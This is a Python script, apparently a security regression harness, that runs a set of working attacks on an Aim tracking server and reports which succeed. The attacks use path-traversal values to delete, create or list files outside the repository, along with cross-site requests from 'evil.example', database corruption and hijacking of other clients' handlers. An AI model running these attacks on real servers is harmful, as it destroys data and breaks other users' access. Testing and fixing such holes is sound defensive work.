"""Attacks on a tracking server, each of which works on Aim's own.

Runs in Aim's environment, so it imports nothing of this project: `python attacks.py 127.0.0.1:53800 folder` prints
which attacks have had their effect. The server's repository is `folder/volume/.aim`. The table can be read without Aim.
"""

from __future__ import annotations

import base64
import contextlib
import json
import shutil
import sys
import uuid
from collections.abc import Callable
from pathlib import Path
from typing import Any

Attack = Callable[["Intruder", Path], bool]

ATTACKS: dict[str, Attack] = {}
"""Each does harm below the folder, and returns whether it is done."""

RUN = "0123456789abcdef01234567"


def attack(function: Attack) -> Attack:
    """Add an attack to the table."""
    ATTACKS[function.__name__] = function
    return function


class Intruder:
    """A client of the tracking server that sends what it likes."""

    def __init__(self, server: str, **headers: str) -> None:
        self.server = server
        self.headers = headers
        self.name = str(uuid.uuid4())

    def post(self, route: str, body: dict[str, Any], content_type: str = "application/json") -> Any:
        """Send a request; returns its answer."""
        import requests

        url = f"http://{self.server}/tracking/{self.name}/{route}/"
        headers = {"Content-Type": content_type, **self.headers}
        return requests.post(url, data=json.dumps(body), headers=headers, timeout=30, stream=True)

    def page(self, path: str) -> int:
        """Ask for a page; returns the status of the answer."""
        import requests

        return int(requests.get(f"http://{self.server}{path}", headers=self.headers, timeout=30).status_code)

    def request(self, kind: str, handler: object = "", **arguments: Any) -> Any:
        """Ask for a resource; returns the answer."""
        body = {"resource_handler": handler, "resource_type": kind, "args": _encoded(arguments)}
        return self.post("get-resource", body)

    def get(self, kind: str, **arguments: Any) -> str:
        """Get a resource; returns its handler, or "" if it is refused."""
        return str(self.request(kind, **arguments).json().get("handler", ""))

    def send(self, handler: str, method: str, *arguments: Any, content_type: str = "application/json") -> Any:
        """Send an instruction; returns the answer."""
        body = {"resource_handler": handler, "method_name": method, "args": _encoded(arguments)}
        return self.post("read-instruction", body, content_type)

    def ask(self, handler: str, method: str, *arguments: Any) -> Any:
        """Send an instruction; returns the value that it is answered with, None for an error."""
        from aim.ext.transport.message_utils import decode_tree, unpack_args

        answer = self.send(handler, method, *arguments)
        return decode_tree(unpack_args(answer.content)) if answer.status_code == 200 else None

    def write(self, handler: str, method: str, *arguments: Any) -> bool:
        """Send an instruction through a WebSocket; returns whether the server says that it has obeyed."""
        from aim.ext.transport.message_utils import encode_tree, pack_args
        from websockets.exceptions import InvalidStatus
        from websockets.sync.client import connect

        url = f"ws://{self.server}/tracking/{self.name}/write-instruction/"
        with contextlib.suppress(InvalidStatus), connect(url, additional_headers=self.headers) as socket:
            socket.send(pack_args(encode_tree([(handler, method, arguments)])))
            return bool(socket.recv(timeout=30) == b"OK")
        return False

    def tree(self, **arguments: Any) -> str:
        """Get a tree; returns its handler, or "" if it is refused."""
        defaults = {"name": "meta", "sub": None, "read_only": False, "index": False, "timeout": None}
        return self.get("TreeView", **{**defaults, **arguments})


def _encoded(value: Any) -> str:
    from aim.ext.transport.message_utils import encode_tree, pack_args

    return base64.b64encode(pack_args(encode_tree(value))).decode()


def decoy(path: Path) -> Path:
    """Make a file, and the folders above it."""
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text("precious", encoding="utf-8")
    return path


@attack
def deletes_another_repository(intruder: Intruder, folder: Path) -> bool:
    """Call `Repo.rm` (aimhubio/aim#3422)."""
    victim = decoy(folder / "another/.aim/VERSION")
    intruder.send(intruder.get("Repo"), "rm", str(folder / "another"))
    return not victim.exists()


@attack
def deletes_another_repository_through_a_websocket(intruder: Intruder, folder: Path) -> bool:
    """Send the same as a write instruction."""
    victim = decoy(folder / "further/.aim/VERSION")
    intruder.write(intruder.get("Repo"), "rm", str(folder / "further"))
    return not victim.exists()


@attack
def makes_a_repository_elsewhere(intruder: Intruder, folder: Path) -> bool:
    """Call `Repo.from_path` (aimhubio/aim#3412)."""
    (folder / "made").mkdir()
    intruder.send(intruder.get("Repo"), "from_path", str(folder / "made"), None, True)
    return (folder / "made/.aim").exists()


@attack
def empties_a_run_past_the_trash(intruder: Intruder, _: Path) -> bool:
    """Delete the root of its tree."""
    tree = intruder.tree(sub=RUN)
    intruder.send(tree, "__setitem__", ("kept",), 1)
    intruder.send(tree, "__delitem__", ())
    return not intruder.ask(tree, "collect", (), False, False)


@attack
def reads_an_attribute(intruder: Intruder, folder: Path) -> bool:
    """Read where the repository is (aimhubio/aim#3412)."""
    return str(folder) in str(intruder.ask(intruder.get("Repo"), "root_path"))


@attack
def sets_an_attribute(intruder: Intruder, _: Path) -> bool:
    """Set one that the server trusts, in the one repository that all clients share (aimhubio/aim#3412)."""
    repository = intruder.get("Repo")
    done = bool(intruder.send(repository, "read_only.setter", True).status_code == 200)
    intruder.send(repository, "read_only.setter", None)
    return done


@attack
def sets_an_attribute_through_a_websocket(intruder: Intruder, _: Path) -> bool:
    """Send the same as a write instruction."""
    return intruder.write(intruder.get("Repo"), "read_only.setter", None)


@attack
def sets_an_attribute_by_its_special_method(intruder: Intruder, _: Path) -> bool:
    """Call what every object of Python has."""
    return bool(intruder.send(intruder.get("Repo"), "__setattr__", "read_only", None).status_code == 200)


@attack
def opens_a_tree_of_another_folder(intruder: Intruder, folder: Path) -> bool:
    """Leave the repository by the name of a tree."""
    intruder.tree(name="../../named", sub="x")
    return (folder / "named").exists()


@attack
def opens_a_run_of_another_folder(intruder: Intruder, folder: Path) -> bool:
    """Leave the repository by the hash of a run."""
    intruder.tree(sub="../../../../opened")
    return (folder / "opened").exists()


@attack
def reads_a_database_of_another_folder(intruder: Intruder, _: Path) -> bool:
    """Read the index as if it were a run."""
    return bool(intruder.tree(sub="../index", read_only=True))


@attack
def opens_the_index(intruder: Intruder, _: Path) -> bool:
    """Hold the lock that the indexer of the web server needs, as long as it likes."""
    handler = intruder.tree(sub="", index=True)
    intruder.page(f"/tracking/{intruder.name}/release-resource/{handler}/")
    return bool(handler)


@attack
def names_a_run_by_a_path(intruder: Intruder, _: Path) -> bool:
    """Make a row that deletes another folder when somebody deletes the run in the UI."""
    return bool(intruder.get("StructuredRun", hash_="../../..", read_only=False, created_at=None))


@attack
def locks_elsewhere(intruder: Intruder, folder: Path) -> bool:
    """Make a file by a lock."""
    intruder.send(intruder.get("Lock", run_hash="../../../locked"), "lock", False)
    return (folder / "locked.softlock").exists()


@attack
def unlocks_elsewhere(intruder: Intruder, folder: Path) -> bool:
    """Delete a file by closing a run."""
    victim = decoy(folder / "victim.softlock")
    intruder.send(intruder.get("Repo"), "_close_run", "../../../victim")
    return not victim.exists()


@attack
def beats_elsewhere(intruder: Intruder, folder: Path) -> bool:
    """Make a file by a heartbeat."""
    (folder / "volume/.aim/check_ins").mkdir(exist_ok=True)
    intruder.get("RunHeartbeat", run_hash="../../../beaten")
    return any(folder.glob("beaten-*"))


@attack
def touches_elsewhere(intruder: Intruder, folder: Path) -> bool:
    """Make a file by a check-in (aimhubio/aim#3424)."""
    intruder.send(intruder.get("FileManager"), "touch", "../../../touched", None)
    return (folder / "touched").exists()


@attack
def touches_elsewhere_through_a_websocket(intruder: Intruder, folder: Path) -> bool:
    """Send the same as a write instruction, as the client does."""
    intruder.write(intruder.get("FileManager"), "touch", "../../../written", None)
    return (folder / "written").exists()


@attack
def cleans_up_elsewhere(intruder: Intruder, folder: Path) -> bool:
    """Delete files by the pattern of old check-ins."""
    victim, _ = decoy(folder / "old-1"), decoy(folder / "old-2")
    name = f"{RUN}-{1:016d}-progress-{1:011.2f}-{1:05d}"
    intruder.send(intruder.get("FileManager"), "touch", name, "../../../old-*")
    return not victim.exists()


@attack
def deletes_check_ins_of_all_runs(intruder: Intruder, folder: Path) -> bool:
    """Make the server take every run for dead (aimhubio/aim#3423)."""
    victim = decoy(folder / f"volume/.aim/check_ins/0-{RUN}")
    intruder.send(intruder.get("FileManager"), "touch", "zzz", "*")
    return not victim.exists()


@attack
def lists_another_folder(intruder: Intruder, folder: Path) -> bool:
    """Read names of files by a pattern."""
    decoy(folder / "secret-name")
    return bool(intruder.ask(intruder.get("FileManager"), "poll", "../../../secret*") == "secret-name")


@attack
def deletes_another_folder(intruder: Intruder, folder: Path) -> bool:
    """Delete a run that is none."""
    victim = decoy(folder / "data/file")
    intruder.send(intruder.get("Repo"), "delete_run", "../../../../data")
    return not victim.exists()


@attack
def deletes_a_run_by_restoring_it(intruder: Intruder, folder: Path) -> bool:
    """Restore a run that has no backup, which deletes it first."""
    (folder / "volume/.aim/bcp").mkdir()
    victim = decoy(folder / f"volume/.aim/meta/chunks/{RUN}/CURRENT")
    intruder.send(intruder.get("Repo"), "_restore_run", RUN)
    done = not victim.exists()
    shutil.rmtree(victim.parent, ignore_errors=True)  # Aim cannot read it
    return done


@attack
def restores_elsewhere(intruder: Intruder, folder: Path) -> bool:
    """Restore what is no run (PR #3327)."""
    (folder / "volume/.aim/bcp").mkdir(exist_ok=True)
    victim = decoy(folder / "restored/file")
    intruder.send(intruder.get("Repo"), "_restore_run", "../../../../restored")
    return not victim.exists()


@attack
def deletes_the_index(intruder: Intruder, folder: Path) -> bool:
    """Delete the index below the server that has it open; it is made again, without what the other would add to it."""
    before = (folder / "volume/.aim/meta/index").stat().st_ino
    marker = decoy(folder / "volume/.aim/meta/index/marker")
    intruder.send(intruder.get("Repo"), "_recreate_index")
    return not marker.exists() or (folder / "volume/.aim/meta/index").stat().st_ino != before


@attack
def breaks_the_database_for_all(intruder: Intruder, _: Path) -> bool:
    """Store in a column what none takes: SQLAlchemy's session, which all clients share, then refuses everything."""
    run = {"hash_": "broken", "read_only": False, "created_at": None}
    intruder.send(intruder.get("StructuredRun", **run), "name.setter", ["no text"])
    other = Intruder(intruder.server)
    return bool(other.ask(other.get("StructuredRun", **run), "tags") != [])


@attack
def replaces_a_resource_of_another(intruder: Intruder, _: Path) -> bool:
    """Ask for a resource by the handler of another client, which then has it no more."""
    other = Intruder(intruder.server)
    handler = other.get("Repo")
    intruder.request("Repo", handler)
    return other.ask(handler, "list_active_runs") is None


@attack
def drops_a_resource_of_another(intruder: Intruder, _: Path) -> bool:
    """Ask for something that is not there, by the handler of another client: Aim forgets the handler."""
    other = Intruder(intruder.server)
    handler = other.get("Repo")
    intruder.request("Nothing", handler)
    return other.ask(handler, "list_active_runs") is None


@attack
def chooses_any_handler(intruder: Intruder, _: Path) -> bool:
    """Name a resource as it likes."""
    return bool(intruder.request("Repo", "evil").status_code == 200)


@attack
def sends_from_a_web_page(intruder: Intruder, _: Path) -> bool:
    """Send a request as a page of another site does; POST always has the header."""
    page = Intruder(intruder.server, Origin="https://evil.example")
    return page.ask(page.get("Repo"), "list_active_runs") is not None


@attack
def opens_a_websocket_from_a_web_page(intruder: Intruder, _: Path) -> bool:
    """Open a WebSocket as a page of another site does; browsers ask nobody first."""
    page = Intruder(intruder.server, Origin="https://evil.example")
    page.name = intruder.name
    return page.write(intruder.tree(sub="fromapage"), "make_array", ["x"])


@attack
def sends_a_body_that_browsers_send_unasked(intruder: Intruder, _: Path) -> bool:
    """Send JSON as text/plain: a browser asks with a preflight request before it sends application/json."""
    handler = intruder.get("Repo")
    return bool(intruder.send(handler, "list_active_runs", content_type="text/plain").status_code == 200)


@attack
def reads_by_an_image(intruder: Intruder, _: Path) -> bool:
    """Get a page as `<img src>` does, which sends no Origin."""
    return Intruder(intruder.server, **{"Sec-Fetch-Site": "cross-site"}).page("/status/") == 200


@attack
def opens_the_documentation(intruder: Intruder, _: Path) -> bool:
    """Open a page that runs JavaScript of another site with the rights of this one."""
    return intruder.page("/docs") == 200


def main(server: str, folder: Path) -> None:
    """Try them all; print which have had their effect."""
    print(json.dumps({name: function(Intruder(server), folder) for name, function in ATTACKS.items()}))


if __name__ == "__main__":
    main(sys.argv[1], Path(sys.argv[2]))
